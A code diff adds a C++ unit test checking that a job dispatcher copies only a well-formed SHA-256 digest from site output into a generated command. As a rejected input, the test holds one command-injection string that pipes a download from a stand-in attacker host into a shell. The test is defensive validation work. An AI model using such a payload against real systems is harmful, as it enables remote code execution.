@@ -146,5 +146,26 @@ TEST(CheckJobTest, RanksThatDoNotStartAreTheLaunchers) {
     EXPECT_NE(rows[0].mend.find("--mpi=KIND"), std::string::npos) << rows[0].mend;
 }
 
+// A site may print what it likes.
+TEST(CheckJobTest, OnlyADigestComesIntoACommand) {
+    Facility with_image = facility();
+    with_image.image.emplace();
+    with_image.image->path = "/w/trainer.sif";
+    const auto rows_of = [&](const std::vector<std::string>& lines) {
+        std::string all;
+        for (const CheckRow& row : judge_check_job(lines, 0, "", with_image)) all += to_json(row).dump() + "\n";
+        return all;
+    };
+    const std::string evil = "$(curl${IFS}-s${IFS}http://evil.example/x|sh)#" + std::string(18, 'a');
+    ASSERT_EQ(evil.size(), 64U);
+    const std::string ranks = R"({"ranks":[{"rank":0,"host":"n1"}]})";
+    EXPECT_EQ(rows_of({Json{{"image_sha256", evil}}.dump(), ranks}).find("image.sha256="), std::string::npos);
+    const std::string digest(64, 'a'), other(64, 'b');
+    const std::string pinned =
+        rows_of({Json{{"image_sha256", digest}}.dump(), Json{{"image_sha256", other}}.dump(), ranks});
+    EXPECT_NE(pinned.find("--set image.sha256=" + digest), std::string::npos) << pinned;
+    EXPECT_EQ(pinned.find(other), std::string::npos) << "a program of the image has printed that";
+}
+
 }  // namespace
 }  // namespace atl::dispatch
